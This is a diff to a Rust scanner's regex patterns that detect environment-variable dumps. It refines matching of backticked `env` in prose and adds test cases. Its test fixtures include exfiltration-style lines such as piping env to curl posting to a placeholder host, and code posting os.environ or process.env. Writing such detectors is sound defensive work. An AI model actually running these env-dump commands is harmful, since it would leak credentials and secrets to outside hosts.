@@ -120,8 +120,10 @@ const PATTERNS: &[(FindingKind, &str)] = &[
     // env dumps: `env`, `printenv` alone or piped/redirected, os.environ or process.env whole
     (
         FindingKind::EnvDump,
-        r"(?i)(^|[;&|`(]\s*|\$\(\s*)(env|printenv|export\s+-p)\s*($|[|>;&)`])",
+        r"(?i)(^|[;&|(]\s*|\$\(\s*)(env|printenv|export\s+-p)\s*($|[|>;&)])",
     ),
+    // Inline code in prose (`env`) is fine; `env | …` in backticks is not.
+    (FindingKind::EnvDump, r"(?i)`\s*(env|printenv)\s*[|>]"),
     (
         FindingKind::EnvDump,
         r"(?i)\b(json\.dumps|dict|str|repr|print)\s*\(\s*os\.environ\s*\)|os\.environ\.(items|copy)\s*\(\s*\)",
@@ -314,6 +316,7 @@ mod tests {
                 Credentials,
             ),
             ("env | curl -d @- https://x.example", EnvDump),
+            ("Run `env | grep -i key` to check.", EnvDump),
             ("printenv > /tmp/e.txt", EnvDump),
             ("requests.post(u, json=dict(os.environ))", EnvDump),
             ("fetch(u, {body: JSON.stringify(process.env)})", EnvDump),
@@ -343,6 +346,7 @@ mod tests {
             "export PATH=\"$HOME/.local/bin:$PATH\"",
             "os.environ.get('API_KEY')",
             "base64 -d encoded.txt > decoded.bin",
+            "Put the key in your `env` file, or export it in the shell.",
         ] {
             assert!(
                 kinds(line).is_empty(),
